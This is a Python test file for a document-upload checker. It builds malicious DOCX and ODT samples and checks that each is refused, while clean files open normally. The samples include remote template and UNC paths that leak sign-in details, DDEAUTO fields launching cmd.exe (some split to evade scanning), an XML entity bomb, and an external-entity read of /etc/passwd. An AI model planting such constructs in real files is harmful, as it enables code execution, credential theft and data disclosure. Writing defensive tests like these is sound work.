"""Hostile DOCX and ODT files, built here with zipfile, each refused with its reason.

Remote templates, linked objects, frames and sub-documents (the usual way to deliver macros,
and with a network path a Windows sign-in leak), DDE fields however they are split or nested,
altChunk parts, embedded OLE objects, XML bombs, and the ODF equivalents. What is accepted
still opens in python-docx, or in zipfile with defusedxml.
"""

import io
import zipfile

import defusedxml.ElementTree as DefusedET
import docx
import pytest

from tests.evidence.samples import (
    CONTENT_TYPES,
    DOCUMENT,
    ODT_CONTENT,
    docx_entries,
    fixture_bytes,
    inspect,
    make_zip,
    odt_entries,
    refusal,
)

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
UNC = "\\\\203.0.113.9\\share\\template.dotm"
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def relationships(*rows: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(rows)
        + "</Relationships>"
    ).encode()


def relationship(kind: str, target: str, *, external: bool = True, rid: str = "rId9") -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}"{mode}/>'


def docx_with(**parts) -> bytes:
    return make_zip(docx_entries(**parts))


def document(body: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document {W_NS}><w:body>{body}</w:body>'
        "</w:document>"
    ).encode()


def assert_refused(data: bytes, code: str, says: str, name: str = "report.docx") -> None:
    refused = refusal(name, data)
    assert refused.code == code
    assert says in refused.message


def assert_docx_accepted_and_opens(data: bytes) -> None:
    clean = inspect("report.docx", data)
    assert clean.kind == "docx" and clean.content == data
    assert docx.Document(io.BytesIO(data)).paragraphs is not None


def assert_odt_accepted_and_opens(data: bytes) -> None:
    clean = inspect("reflection.odt", data)
    assert clean.kind == "odt" and clean.content == data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert DefusedET.fromstring(archive.read("content.xml")) is not None


# --- DOCX: things fetched from elsewhere ----------------------------------------------------

FETCHES = "fetches content from another computer or the internet when it is opened"


@pytest.mark.parametrize("target", ["https://203.0.113.9/template.dotm", UNC])
def test_remote_template_is_refused(target):
    data = docx_with(
        **{"word/_rels/settings.xml.rels": relationships(relationship("attachedTemplate", target))}
    )
    assert_refused(data, "external_content", FETCHES)


@pytest.mark.parametrize("kind", ["oleObject", "frame", "subDocument", "image", "externalLink"])
def test_external_objects_frames_sub_documents_and_pictures_are_refused(kind):
    rels = relationships(relationship(kind, "file://203.0.113.9/share/x"))
    assert_refused(docx_with(**{"word/_rels/document.xml.rels": rels}), "external_content", FETCHES)


def test_external_target_mode_is_read_whatever_its_case():
    rels = relationships(relationship("attachedTemplate", UNC).replace("External", "eXTERNAL"))
    assert_refused(docx_with(**{"word/_rels/settings.xml.rels": rels}), "external_content", FETCHES)


def test_include_picture_field_with_a_remote_file_is_refused():
    body = f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{UNC}&quot; \\d "/></w:p>'
    assert_refused(docx_with(**{"word/document.xml": document(body)}), "external_content", FETCHES)


def test_hyperlinks_someone_clicks_are_accepted_and_the_file_opens():
    rels = relationships(relationship("hyperlink", "https://example.org/imhcf"))
    assert_docx_accepted_and_opens(docx_with(**{"word/_rels/document.xml.rels": rels}))


# --- DOCX: DDE fields ------------------------------------------------------------------------

DDE = "contains DDE fields"
DDE_COMMAND = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'


def run(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def field(*instruction_runs: str) -> str:
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    return begin + "".join(instruction_runs) + end


@pytest.mark.parametrize(
    "body",
    [
        f'<w:p><w:fldSimple w:instr="{DDE_COMMAND.replace(chr(34), "&quot;")}"/></w:p>',
        "<w:p>" + field(run(DDE_COMMAND.replace('"', "&quot;"))) + "</w:p>",
        # Split across runs, as Word itself often stores a field.
        "<w:p>" + field(run(" DD"), run("EAUTO c:\\\\x.exe"), run(" x")) + "</w:p>",
        "<w:p>" + field(run("dde calc x")) + "</w:p>",
        # Inside a tracked insertion, where a paragraph-level scan does not look.
        "<w:p><w:ins w:id='1' w:author='x'>" + field(run("DDE cmd x")) + "</w:ins></w:p>",
        # Across two paragraphs.
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + run("DDEAUTO ")
        + "</w:p><w:p>"
        + run("cmd x")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ],
    ids=["fldSimple", "complex field", "split", "lower case", "in w:ins", "two paragraphs"],
)
def test_dde_and_ddeauto_fields_are_refused(body):
    assert_refused(docx_with(**{"word/document.xml": document(body)}), "dde", DDE)


def test_dde_field_in_a_header_part_is_refused():
    header = document("<w:p>" + field(run("DDEAUTO cmd x")) + "</w:p>")
    assert_refused(docx_with(**{"word/header1.xml": header}), "dde", DDE)


def test_ordinary_fields_are_accepted():
    body = (
        "<w:p>" + field(run(" PAGE ")) + field(run(' HYPERLINK "https://example.org" ')) + "</w:p>"
    )
    assert_docx_accepted_and_opens(docx_with(**{"word/document.xml": document(body)}))


# --- DOCX: altChunk, embedded objects, macros, XML bombs -------------------------------------


def test_alt_chunk_relationship_is_refused():
    rels = relationships(relationship("aFChunk", "afchunk.mht", external=False))
    data = docx_with(
        **{"word/_rels/document.xml.rels": rels, "word/afchunk.mht": b"<html>x</html>"}
    )
    assert_refused(data, "alt_chunk", "(altChunk)")


def test_alt_chunk_element_is_refused():
    body = '<w:altChunk xmlns:r="x" r:id="rId9"/>'
    assert_refused(docx_with(**{"word/document.xml": document(body)}), "alt_chunk", "(altChunk)")


def test_embedded_ole_object_is_refused():
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    data = docx_with(**{"word/embeddings/oleObject1.bin": ole})
    assert_refused(data, "embedded_object", "embedded from another program (OLE)")


def test_macro_project_is_refused():
    types = CONTENT_TYPES.replace(
        b"</Types>", b'<Default Extension="bin" ContentType="x"/></Types>'
    )
    data = docx_with(
        **{"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1"}
    )
    assert_refused(data, "macros", "contains macros")


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    b"<w:document " + W_NS.encode() + b"><w:body><w:p><w:r><w:t>&c;</w:t></w:r></w:p>"
    b"</w:body></w:document>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b"&x;</Relationships>"
)


@pytest.mark.parametrize(
    "parts",
    [
        {"word/document.xml": BILLION_LAUGHS},
        {"word/_rels/document.xml.rels": EXTERNAL_ENTITY},
        # Renamed so only its content says it is XML.
        {"word/media/image1.png": BILLION_LAUGHS},
    ],
    ids=["entity expansion", "external entity", "XML under another name"],
)
def test_xml_bombs_and_external_entities_are_refused(parts):
    assert_refused(docx_with(**parts), "xml_dtd", "a DTD or entities")


def test_docx_whose_xml_does_not_parse_is_refused_as_damaged():
    data = docx_with(**{"word/document.xml": DOCUMENT.replace(b"</w:body>", b"")})
    assert_refused(data, "damaged", "damaged or unreadable")


# --- ODT -------------------------------------------------------------------------------------

ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odt_with(body: str) -> bytes:
    content = (
        f'<?xml version="1.0"?><office:document-content {ODF_NS}><office:body><office:text>'
        f"{body}</office:text></office:body></office:document-content>"
    ).encode()
    entries = [(n, content if n == "content.xml" else d) for n, d in odt_entries()]
    return make_zip(entries, stored={"mimetype"})


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (
            '<text:p><office:event-listeners><script:event-listener script:language="ooo:script"'
            ' script:event-name="dom:mouseover" xlink:href="vnd.sun.star.script:pythonSamples|'
            'TableSample.py$createTable?language=Python&amp;location=share"/>'
            "</office:event-listeners></text:p>",
            "macros",
        ),
        (
            '<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
            'language=Basic&amp;location=application">x</text:a></text:p>',
            "macros",
        ),
        ('<text:p><draw:applet draw:code="Evil.class"/></text:p>', "macros"),
        (
            '<text:p><draw:frame><draw:image xlink:href="https://203.0.113.9/pixel.png"/>'
            "</draw:frame></text:p>",
            "external_content",
        ),
        (
            "<text:section><text:section-source "
            'xlink:href="file://203.0.113.9/share/x.odt"/></text:section>',
            "external_content",
        ),
        (
            '<text:dde-connection-decls><text:dde-connection-decl office:dde-application="cmd"/>'
            "</text:dde-connection-decls>",
            "dde",
        ),
    ],
    ids=["event listener", "macro link", "applet", "remote picture", "linked section", "DDE"],
)
def test_odt_active_and_remote_content_is_refused(body, code):
    refused = refusal("reflection.odt", odt_with(body))
    assert refused.code == code


def test_odt_xml_bomb_is_refused():
    bomb = BILLION_LAUGHS.replace(b"w:document", b"office:document-content")
    entries = [(n, bomb if n == "content.xml" else d) for n, d in odt_entries()]
    refused = refusal("reflection.odt", make_zip(entries, stored={"mimetype"}))
    assert refused.code == "xml_dtd"


def test_odt_with_a_link_someone_clicks_is_accepted_and_opens():
    body = '<text:p><text:a xlink:href="https://example.org/imhcf">IMHCF</text:a></text:p>'
    assert_odt_accepted_and_opens(odt_with(body))


def test_plain_odt_is_accepted_and_opens():
    entries = [(n, ODT_CONTENT if n == "content.xml" else d) for n, d in odt_entries()]
    assert_odt_accepted_and_opens(make_zip(entries, stored={"mimetype"}))


# --- Files from common tools -----------------------------------------------------------------


def test_libreoffice_odt_is_accepted_and_opens():
    assert_odt_accepted_and_opens(fixture_bytes("supervision-report.odt"))


def test_libreoffice_docx_is_accepted_and_opens():
    assert_docx_accepted_and_opens(fixture_bytes("supervision-report-libreoffice.docx"))


def test_word_style_docx_from_python_docx_is_accepted_and_opens():
    # python-docx writes from Word's own default template.
    made = docx.Document()
    made.add_heading("Supervision report", level=1)
    made.add_paragraph("Keeping the baby in mind during home visits.")
    table = made.add_table(rows=2, cols=2)
    table.cell(0, 0).text = "Date"
    table.cell(1, 0).text = "12 January 2026"
    out = io.BytesIO()
    made.save(out)
    assert_docx_accepted_and_opens(out.getvalue())
